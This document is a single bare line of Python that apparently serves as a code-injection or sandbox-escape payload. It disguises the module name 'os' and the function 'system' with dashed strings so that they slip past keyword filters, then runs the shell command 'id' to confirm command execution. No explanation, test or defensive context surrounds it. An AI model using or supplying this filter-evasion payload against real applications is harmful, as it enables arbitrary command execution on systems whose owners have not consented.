getattr(__import__("o-s".replace("-", "")), "s-y-s-t-e-m".replace("-", ""))("id")
